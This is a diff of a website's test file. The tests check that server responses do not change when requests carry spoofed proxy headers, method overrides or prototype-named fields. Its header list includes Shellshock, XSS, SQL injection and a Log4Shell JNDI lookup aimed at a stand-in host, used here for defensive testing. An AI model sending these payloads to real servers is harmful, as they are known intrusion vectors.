@@ -1,19 +1,11 @@
 import { createHash } from 'node:crypto';
-import { readdirSync } from 'node:fs';
-import type { Server } from 'node:http';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestApp } from '../support/app/create-test-app.ts';
+import { describe, expect, it } from 'vitest';
+import { findAsset } from '../support/app/find-asset.ts';
 import { PAGE_PATHS } from '../support/app/page-paths.ts';
-import { exchange, listen, type WireAnswer } from '../support/http/raw-connection.ts';
+import { startTestServer } from '../support/app/start-test-server.ts';
+import { exchange, type WireResponse } from '../support/http/raw-connection.ts';
 
-const assets = readdirSync('dist/client/assets');
-const asset = (pattern: RegExp) => `/assets/${assets.find((file) => pattern.test(file))}`;
-
-let server: Server;
-beforeAll(async () => {
-  server = await listen((await createTestApp({ ACCESS_LOG: '0' })).createServer());
-});
-afterAll(() => server.close());
+const server = await startTestServer({ ACCESS_LOG: '0' });
 
 /** Requests for everything that the site sends, as their first line and the fields they need. */
 const TARGETS: [title: string, line: string, fields?: string | undefined][] = [
@@ -21,21 +13,13 @@ const TARGETS: [title: string, line: string, fields?: string | undefined][] = [
   ['the 404 page', 'GET /no-existe'],
   ['a missing asset', 'GET /assets/none.js'],
   ['a redirect', 'GET /pricing/'],
-  ['a script', `GET ${asset(/^entry-.*\.js$/)}`],
-  ['an image', `GET ${asset(/\.svg$/)}`],
-  ['a range', `GET ${asset(/\.woff2$/)}`, 'Range: bytes=0-9\r\n'],
+  ['a script', `GET ${findAsset(/^entry-.*\.js$/)}`],
+  ['an image', `GET ${findAsset(/\.svg$/)}`],
+  ['a range', `GET ${findAsset(/\.woff2$/)}`, 'Range: bytes=0-9\r\n'],
   ...[
-    '/index.md',
-    '/llms.txt',
-    '/robots.txt',
-    '/sitemap.xml',
-    '/manifest.webmanifest',
-    '/.well-known/security.txt',
-    '/contact.vcf',
-    '/whatsapp.svg',
-    '/favicon.ico',
-    '/healthz',
-    '/readyz',
+    ...['/index.md', '/llms.txt', '/robots.txt', '/sitemap.xml', '/manifest.webmanifest'],
+    ...['/.well-known/security.txt', '/contact.vcf', '/whatsapp.svg', '/favicon.ico'],
+    ...['/healthz', '/readyz'],
   ].map((path): [string, string] => [path, `GET ${path}`]),
   ['a page in brotli', 'GET /contact', 'Accept-Encoding: br\r\n'],
   ['a page as Markdown', 'GET /contact', 'Accept: text/markdown\r\n'],
@@ -45,25 +29,22 @@ const TARGETS: [title: string, line: string, fields?: string | undefined][] = [
   ['a method', 'POST /'],
 ];
 
-/** What clients, proxies and attackers add, and nothing of the site may listen to. */
+/** What clients, proxies and attackers add, and what no response may depend on. */
 const FIELDS = [
-  'X-Forwarded-Host: evil.example',
+  ...`X-Forwarded-Host X-Forwarded-Port X-Forwarded-Prefix X-Forwarded-Server X-Forwarded-Scheme
+    X-Host X-Original-Host X-Request-Id Next-Router-State-Tree rsc-action-id __proto__ constructor
+    hasOwnProperty toString`
+    .split(/\s+/)
+    .map((name) => `${name}: evil.example`),
+  ...['X-Forwarded-For', 'X-Real-IP', 'True-Client-IP'].map((name) => `${name}: 127.0.0.1`),
+  ...['X-Original-URL', 'X-Rewrite-URL'].map((name) => `${name}: /gtc`),
+  ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].map(
+    (name) => `${name}: POST`,
+  ),
+  ...['RSC', 'Next-Action', 'X-Nextjs-Data', 'DNT'].map((name) => `${name}: 1`),
+  ...['Purpose', 'X-Moz'].map((name) => `${name}: prefetch`),
   'X-Forwarded-Proto: https',
-  'X-Forwarded-For: 127.0.0.1, evil.example',
-  'X-Forwarded-Port: 444',
-  'X-Forwarded-Prefix: /evil',
-  'X-Forwarded-Server: evil.example',
-  'X-Forwarded-Scheme: nothttps',
-  'X-Host: evil.example',
-  'X-Real-IP: 127.0.0.1',
-  'True-Client-IP: 127.0.0.1',
   'Forwarded: for=127.0.0.1;host=evil.example;proto=https',
-  'X-Original-URL: /gtc',
-  'X-Rewrite-URL: /gtc',
-  'X-Original-Host: evil.example',
-  'X-HTTP-Method-Override: DELETE',
-  'X-HTTP-Method: DELETE',
-  'X-Method-Override: POST',
   'Accept-Language: en, de;q=0.5',
   `Cookie: cc_cookie=${encodeURIComponent('{"categories":["necessary","analytics"]}')}; session=evil`,
   'Authorization: Basic ZXZpbDpldmls',
@@ -72,28 +53,15 @@ const FIELDS = [
   'User-Agent: Googlebot/2.1',
   'User-Agent: () { :; }; echo evil',
   'X-Middleware-Subrequest: middleware:middleware:middleware',
-  'RSC: 1',
-  'Next-Action: 1234567890',
-  'Next-Router-State-Tree: evil',
-  'rsc-action-id: evil#default',
-  'X-Nextjs-Data: 1',
-  'Purpose: prefetch',
   'Sec-Purpose: prefetch;prerender',
-  'X-Moz: prefetch',
   'Sec-Fetch-Dest: empty',
   'Sec-Fetch-Site: cross-site',
   'Access-Control-Request-Method: DELETE',
   'X-Requested-With: XMLHttpRequest',
   'Pragma: no-cache',
-  'X-Request-Id: evil-evil-evil',
   'Content-Type: application/json',
   'TE: trailers',
   'Save-Data: on',
-  'DNT: 1',
-  '__proto__: evil',
-  'constructor: evil',
-  'hasOwnProperty: evil',
-  'toString: evil',
   'X-Evil: <script>alert(1)</script>',
   "X-Evil: ' OR 1=1 --",
   `X-Evil: \${jndi:ldap://evil.example/a}`,
@@ -118,11 +86,11 @@ function write([, line, fields = '']: (typeof TARGETS)[number], host = 'a', more
 }
 
 /** All that was sent, without the time at which it was; a digest of the body keeps failures short. */
-function withoutDate({ statusLine, headers: { date: _, ...headers }, body }: WireAnswer) {
+function withoutDate({ statusLine, headers: { date: _, ...headers }, body }: WireResponse) {
   return { statusLine, headers, digest: createHash('sha256').update(body).digest('hex') };
 }
 
-describe('the whole answer is the same, whatever else the request says, for', () => {
+describe('the whole response is the same, whatever else the request says, for', () => {
   it.each(TARGETS)('%s', async (...target) => {
     const variants = [
       ...FIELDS.map((field) => write(target, 'a', field)),
@@ -133,7 +101,7 @@ describe('the whole answer is the same, whatever else the request says, for', ()
   });
 });
 
-describe('the whole answer is the same, whatever its query, for', () => {
+describe('the whole response is the same, whatever its query, for', () => {
   it.each(TARGETS.filter(([title]) => title !== 'a redirect'))(
     '%s',
     async (title, line, fields) => {
@@ -150,22 +118,20 @@ async function expectSame(plain: string, variants: string[]): Promise<void> {
   }
 }
 
-it('takes nothing of a query into a redirect but the query', async () => {
+it('redirects with the query and nothing else of it', async () => {
   for (const query of QUERIES) {
-    const [answer] = await exchange(server, write(['', `GET /pricing/${query}`]));
-    expect(answer?.headers['location']).toMatch(/^\/pricing\?/);
-    expect(answer?.headers['set-cookie']).toBeUndefined();
+    const [response] = await exchange(server, write(['', `GET /pricing/${query}`]));
+    expect(response?.headers['location']).toMatch(/^\/pricing\?/);
+    expect(response?.headers['set-cookie']).toBeUndefined();
   }
 });
 
-it('lives on after names that objects have of their own, repeated', async () => {
-  const names = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'];
-  for (const name of names) {
+it.each(['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'])(
+  'serves requests with %s as a repeated field and as a path',
+  async (name) => {
     const fields = `${name}: a\r\n${name}: b\r\n${name}: c`;
-    const [first] = await exchange(server, write(['', 'GET /'], 'a', fields));
-    expect(first?.status, name).toBe(200);
-    const path = await exchange(server, write(['', `GET /${name}`]));
-    expect(path[0]?.status, name).toBe(404);
-  }
-  expect((await exchange(server, write(['', 'GET /'])))[0]?.status).toBe(200);
-});
+    const [repeated] = await exchange(server, write(['', 'GET /'], 'a', fields));
+    const [path] = await exchange(server, write(['', `GET /${name}`]));
+    expect([repeated?.status, path?.status]).toEqual([200, 404]);
+  },
+);
